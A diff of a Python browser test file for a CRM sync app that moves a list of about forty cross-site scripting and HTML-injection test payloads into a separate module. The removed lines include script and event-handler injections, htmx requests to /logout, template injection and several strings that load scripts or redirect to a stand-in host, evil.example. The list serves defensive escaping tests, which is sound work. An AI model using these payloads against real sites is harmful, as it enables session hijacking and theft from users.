@@ -22,6 +22,7 @@ from adsapp_crm.models import (
 )
 from crm.model import RunKind
 from tests.adsapp_crm.hubspot_account import TOKEN
+from tests.browser.payloads import PAYLOADS
 
 pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
 
@@ -249,50 +250,6 @@ def test_the_keyboard_alone_starts_a_sync(wide, synced):
     assert outline != "none"
     wide.keyboard.press("Enter")
     assert run_of(wide)
-
-
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    '"><script>alert(1)</script>',
-    "'><img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "</textarea><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    '<iframe srcdoc="<script>alert(1)</script>">',
-    "<body onload=alert(1)>",
-    '<a href="javascript:alert(1)">x</a>',
-    "{{ 7|add:7 }}{% debug %}",
-    "<details open ontoggle=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    '"autofocus onfocus=alert(1) x="',
-    '<math><mi xlink:href="javascript:alert(1)">',
-    "<style>*{display:none}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    '<meta http-equiv=refresh content="0;url=//evil.example">',
-    "<base href=//evil.example/>",
-    "<form action=//evil.example><button>x",
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<video><source onerror=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<div hx-get=/logout hx-trigger=load>",
-    '<div hx-on:load="alert(1)">',
-    "<div data-hx-post=/logout data-hx-trigger=load>",
-    "<img src=//evil.example/p.png>",
-    "<script src=//evil.example/x.js></script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "\\u003cscript\\u003ealert(1)",
-    "<scr\x00ipt>alert(1)</scr\x00ipt>",
-    "<<script>alert(1)//<</script>",
-    "<template><script>alert(1)</script></template>",
-    '<noscript><p title="</noscript><script>alert(1)</script>">',
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<textarea autofocus onfocus=alert(1)>",
-    "<select autofocus onfocus=alert(1)>",
-    "<xss id=x tabindex=1 onfocus=alert(1)>#x",
-    "\u202e<script>alert(1)</script>",
-]  # fmt: skip
 
 
 def _versions():
